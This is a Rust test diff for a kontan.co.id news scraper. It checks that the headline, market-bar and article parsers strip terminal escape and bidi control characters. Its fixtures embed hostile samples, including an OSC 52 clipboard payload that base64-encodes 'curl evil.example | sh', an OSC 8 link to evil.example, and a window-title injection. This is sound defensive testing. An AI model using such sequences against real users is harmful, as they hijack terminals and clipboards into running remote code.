@@ -263,3 +263,86 @@ fn hostile_nesting_is_refused_and_shallow_pages_read() {
     let a = parse_article(&shallow, &u).unwrap();
     assert_eq!(a.paragraphs.last().map(String::as_str), Some("b"));
 }
+
+/// Characters that steer a terminal or reorder text: none may leave a parser.
+fn steering(s: &str) -> Vec<char> {
+    s.chars()
+        .filter(|&c| {
+            c.is_control()
+                || ('\u{202a}'..='\u{202e}').contains(&c)
+                || ('\u{2066}'..='\u{2069}').contains(&c)
+        })
+        .collect()
+}
+
+#[test]
+fn steering_characters_never_leave_the_headline_and_bar_parsers() {
+    let html = common::fixture("variants/home-steering.html");
+    let list = parse_headlines(&html, &url("https://www.kontan.co.id/")).unwrap();
+    let titles: Vec<&str> = list.iter().map(|h| h.title.as_str()).collect();
+    assert_eq!(
+        titles,
+        vec![
+            "Rupiah]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== Dibuka Melemah",
+            "]8;;https://evil.example/\\Harga Emas]8;;\\ Antam TurunNaik",
+            "IHSG31m Berpotensi Menguat iseretsaM Terbatas",
+        ],
+        "OSC 52, OSC 8, backspaces, C1, DEL and bidi controls are gone; a tab is a space"
+    );
+    for h in &list {
+        let json = serde_json::to_string(h).unwrap();
+        assert_eq!(
+            steering(&json.replace("\\u", "")),
+            Vec::<char>::new(),
+            "{json}"
+        );
+        assert!(!json.contains("\\u001b"), "{json}");
+    }
+    let bar = parse_indicators(&html).unwrap();
+    let ihsg = bar.readings.iter().find(|r| r.symbol == "IHSG");
+    let rejected = serde_json::to_string(&bar.rejected).unwrap();
+    assert!(
+        !rejected.contains("\\u001b") && !rejected.contains('\u{7}'),
+        "{rejected}"
+    );
+    assert!(ihsg.is_none() || ihsg.unwrap().value > 0.0);
+}
+
+#[test]
+fn steering_characters_never_leave_the_article_parser() {
+    let esc = |s: &str| s.replace('«', "\u{1b}").replace('»', "\u{7}");
+    let html = common::fixture("article-korea-utara.html")
+        .replace("Untuk Kali Pertama", &esc("Untuk Kali«]0;owned» Pertama"))
+        .replace("Barratut Taqiyyah", "Barratut\u{202e} Taqiyyah\u{85}")
+        .replace(
+            "KONTAN.CO.ID - SEOUL.",
+            &esc("KONTAN.CO.ID - «]52;c;ZXZpbA==»SEOUL.\u{8}\u{8}"),
+        )
+        .replace(">Putin Umumkan", ">Putin\u{9b}2J Umumkan");
+    let a = parse_article(
+        &html,
+        &url("https://internasional.kontan.co.id/news/untuk-kali-pertama-korea-utara-akui-kirim-pasukan-ke-rusia"),
+    )
+    .unwrap();
+    assert!(
+        a.title.starts_with("Untuk Kali]0;owned Pertama"),
+        "{}",
+        a.title
+    );
+    assert_eq!(a.editor.as_deref(), Some("Barratut Taqiyyah Rafie"));
+    assert!(
+        a.paragraphs[0].starts_with("KONTAN.CO.ID - ]52;c;ZXZpbA==SEOUL. Pada"),
+        "{}",
+        a.paragraphs[0]
+    );
+    assert!(a
+        .related
+        .iter()
+        .any(|r| r.title.starts_with("Putin2J Umumkan")));
+    let json = serde_json::to_string(&a).unwrap();
+    assert_eq!(steering(&json), Vec::<char>::new(), "{json}");
+    assert!(
+        !json.contains("\\u00"),
+        "no escaped control characters either: {json}"
+    );
+}
